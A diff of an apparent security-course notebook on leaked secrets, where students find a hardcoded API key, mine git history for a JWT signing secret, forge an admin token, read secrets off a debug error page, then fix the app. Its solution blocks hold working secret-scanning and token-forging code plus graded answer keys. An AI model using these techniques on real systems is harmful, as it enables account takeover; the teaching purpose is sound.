@@ -30,11 +30,10 @@ import re
 import subprocess
 from pathlib import Path
 
+import jwt
 import matplotlib.pyplot as plt
 
 import labkit
-from labkit.attacks import secret_scan
-from labkit.attacks.jwt import decode_unverified, forge
 
 lab = labkit.open_lab("08-secrets")
 lab
@@ -82,7 +81,7 @@ lab
 #
 # The lab app's repository is a real git repository on this machine. Clone-level access to
 # source code is common: contractors, CI systems, a leaked laptop, a repository made public by
-# mistake. Look at the code, and run the secret scanner over the current files.
+# mistake. Here are its history and its files:
 
 # %%
 repo = Path(lab.client.get("/api/_lab/repo").json()["path"])
@@ -94,18 +93,31 @@ def git(*args: str) -> str:
 
 
 print(git("log", "--format=%h %ad %s", "--date=short"))
-for finding in secret_scan.scan_tree(repo):
-    print(finding)
+print(git("ls-files"))
 
 # %% [markdown]
-# The scanner shows only the first characters of what it finds; `finding.secret` holds the
-# value. Find the API key written in the source, try it on `GET /api/v1/export` (header
-# `X-API-Key`), and keep it in `source_key`.
+# Secret scanners (gitleaks, detect-secrets, trufflehog) are mostly regular expressions: a
+# known key format, or a name like `*_KEY` / `*_SECRET` assigned a long literal. Write your
+# own search over the current files (everything under `repo` but `.git/`), print what it
+# finds — the first characters only: a finding in a log is a leak too — and find the API key
+# that `GET /api/v1/export` accepts in its `X-API-Key` header. Success: the export answers
+# 200 with the users. Keep the key in `source_key`.
 
 # %% labkit={"answer": "hardcoded-key"}
 ### BEGIN SOLUTION
-source_key = next(f.secret for f in secret_scan.scan_tree(repo) if f.rule == "labkit API key")
-print(lab.client.get("/api/v1/export", headers={"X-API-Key": source_key}).json()["users"][:2])
+ASSIGNED = re.compile(r"""(\w*(?:KEY|SECRET|TOKEN|PASSWORD)\w*)\s*=\s*["']([^"']{16,})["']""")
+found = {}
+for path in sorted(repo.rglob("*")):
+    if ".git" in path.relative_to(repo).parts or not path.is_file():
+        continue
+    for name, value in ASSIGNED.findall(path.read_text(errors="replace")):
+        print(f"{path.relative_to(repo)}: {name} = {value[:8]}...")
+        found[name] = value
+for name, value in found.items():
+    export = lab.client.get("/api/v1/export", headers={"X-API-Key": value})
+    if export.status_code == 200:
+        source_key = value
+        print(f"{name} opens the export:", export.json()["users"][:2])
 ### STUB
 source_key = None  # TODO: the API key written in the source
 ### END SOLUTION
@@ -118,34 +130,40 @@ lab.check("hardcoded-key", source_key)
 #
 # The current `app/config.py` reads `JWT_SECRET` from the environment. But a repository holds
 # every version of every file: `git log -p` prints each commit's changes, including files that
-# were deleted later. Look at the commits, then scan the whole history.
+# were deleted later.
 
 # %%
 print(git("log", "--stat", "--format=%n%h %s"))
-history = secret_scan.scan_git_history(repo)
-for finding in history:
-    print(finding)
 
 # %% [markdown]
 # Someone committed `.env` and deleted it the next day — the secret is still one `git show`
-# away, and the app still signs its tokens with it. Forge an admin token: log in as carol (a
-# viewer), keep her token's header and claims, make yourself user `"1"` with role `"admin"` and
-# sign with the secret (`forge(header, claims, key_bytes)`). Keep it in `forged`.
+# away, and the app still signs its tokens with it (HS256). Log in as carol (a viewer) and read
+# her token:
 
 # %%
 carol = lab.client.post(
     "/api/auth/login", json={"email": "carol@example.com", "password": lab.users["carol"].password}
 ).json()["accessToken"]
-header, claims = decode_unverified(carol)
+header, claims = jwt.get_unverified_header(carol), jwt.decode(carol, options={"verify_signature": False})
 print(header, claims)
+
+# %% [markdown]
+# Search the whole history (`git("log", "-p", "--all")`, the added lines start with `+`) for
+# the signing secret, then mint yourself an admin token with it: carol's claims, user `"1"`,
+# role `"admin"`, signed with PyJWT. Success: `/api/admin/users` answers 200 with the user
+# list. Keep the token in `forged`.
 
 # %% labkit={"answer": "git-history"}
 ### BEGIN SOLUTION
-history_secret = next(
-    f.secret for f in history if f.path == ".env" and f.rule == "secret assignment"
-)
-forged = forge(header, {**claims, "sub": "1", "role": "admin"}, history_secret.encode())
-print(lab.client.get("/api/admin/users", headers={"Authorization": f"Bearer {forged}"}).json())
+patches = git("log", "-p", "--all")
+candidates = set(re.findall(r"""^\+\s*JWT_SECRET\s*=\s*["']?([\w-]{16,})["']?\s*(?:#.*)?$""", patches, re.M))
+print(len(candidates), "value(s) of JWT_SECRET in history:", [c[:8] + "..." for c in candidates])
+for history_secret in candidates:
+    forged = jwt.encode({**claims, "sub": "1", "role": "admin"}, history_secret, algorithm="HS256")
+    answer = lab.client.get("/api/admin/users", headers={"Authorization": f"Bearer {forged}"})
+    if answer.status_code == 200:
+        print(answer.json())
+        break
 ### STUB
 forged = None  # TODO: an admin token signed with the secret from history
 ### END SOLUTION
@@ -160,18 +178,16 @@ lab.check("git-history", forged)
 # because `DEBUG` is on (it defaults to on), the framework answers with its friendly debug page
 # — traceback, settings and the whole environment. This is the Django `DEBUG = True` and
 # Laravel `APP_DEBUG=true` leak that search engines and scanners find every day.
-
-# %%
-page = lab.client.get("/api/stats/2024-13")
-print(page.status_code, page.headers["content-type"])
-print(re.sub(r"<[^>]+>", " ", page.text)[:400], "...")
-
-# %% [markdown]
-# The page ends with two tables, *Settings* and *Environment*. Read `JWT_SECRET` off it into
-# `page_secret`.
+#
+# Make the app crash with one request, look at what comes back, and read `JWT_SECRET` off the
+# page (it is HTML: its last tables are *Settings* and *Environment*). Success: the value you
+# read is on the page and signs the app's tokens. Keep it in `page_secret`.
 
 # %% labkit={"answer": "debug-page"}
 ### BEGIN SOLUTION
+page = lab.client.get("/api/stats/2024-13")
+print(page.status_code, page.headers["content-type"])
+print(re.sub(r"<[^>]+>", " ", page.text)[:300], "...")
 rows = dict(re.findall(r"<tr><th>(\w+)</th><td>([^<]*)</td></tr>", page.text))
 page_secret = rows["JWT_SECRET"]
 ### STUB
@@ -412,6 +428,8 @@ rewrite("app/config.py", {
 )
 git("add", "-A")
 git("commit", "-q", "-m", "Secrets come from the environment only")
+from labkit.attacks import secret_scan  # the scanner CI would run
+
 print(secret_scan.scan_tree(repo), len(secret_scan.scan_git_history(repo)), "findings in history")
 fix_commit = git("rev-parse", "HEAD").strip()
 ### STUB
@@ -533,12 +551,17 @@ lab.check("rotation", sign_token=sign_token, verify_token=verify_token)
 # Your three functions together: the key from the source must fail and the vault's key work,
 # nothing secret may print or show on an error page, broken configurations must not start, the
 # key must rotate with nobody logged out — and afterwards a token forged with the secret from
-# git history must open nothing.
+# git history must open nothing. Your own loot goes in too: the key you found in Attack 1 and
+# the admin token you minted in Attack 2 are replayed against your fixed app, and must now be
+# refused.
 #
 # <!-- labkit:rules verify -->
 
+# %%
+my_attacks = {"Attack 1 (the key in the source)": source_key, "Attack 2 (the secret from history)": forged}
+
 # %% labkit={"check": "verify"}
-lab.check("verify", load_settings=load_settings, sign_token=sign_token, verify_token=verify_token)
+lab.check("verify", my_attacks, load_settings=load_settings, sign_token=sign_token, verify_token=verify_token)
 
 # %% [markdown]
 # ## Recap
